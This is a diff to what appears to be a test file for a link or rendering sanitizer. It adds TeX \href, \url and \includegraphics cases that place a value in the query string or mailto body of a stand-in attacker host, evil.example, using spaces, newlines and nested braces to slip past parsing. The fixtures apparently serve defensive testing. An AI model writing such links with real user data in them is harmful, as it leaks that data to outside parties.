@@ -92,6 +92,12 @@ STAYS = {
     "a sign before a host": "{}\U0001f600.evil.example",
     "a host in Cyrillic": "{}-а.пример.испытание",
     "a host in Chinese": "{}.例子.测试",
+    "spaces in a group of TeX": "\\href{{https://evil.example/?q= {}}}{{x}}",
+    "an image of TeX": "$\\includegraphics[width=1em, alt=a]{{https://evil.example/\n {}}}$",
+    "a paragraph in a group of TeX": "$$\n\\url{{https://evil.example/?q=\n\n{}}}",
+    "groups in a group of TeX": "\\href{{//evil.example/?{{a}}{{{{b}} {}}}{{x}}",
+    "an escaped brace in a group of TeX": "\\href{{//evil.example/?\\}} {}}}{{x}}",
+    "what a mail says in TeX": "\\href{{mailto:eve@evil.example?body=as said {}}}{{x}}",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
@@ -132,6 +138,9 @@ COMES = {
     "a paragraph after code in an address": "https://example.com/`x\n\n{}",
     "after brackets in an address": "https://example.com/?q=(a)<br>{}",
     "after brackets before an address": "(see <i>https://example.com/a</i><b>{}</b>)",
+    "after a group of TeX": "\\href{{https://example.com/a b}}{{{}}} and {{{}}}",
+    "a mail link of TeX": "\\href{{mailto:{}}}{{x}}, \\url{{ {} }}",
+    "beside a command of TeX": "\\urlstyle{{same {}}}, with \\url for {}",
     "before a date": "于2024.05.01请{}于2024.05.01",
     "before a file": "{}在main.test.ts",
 }
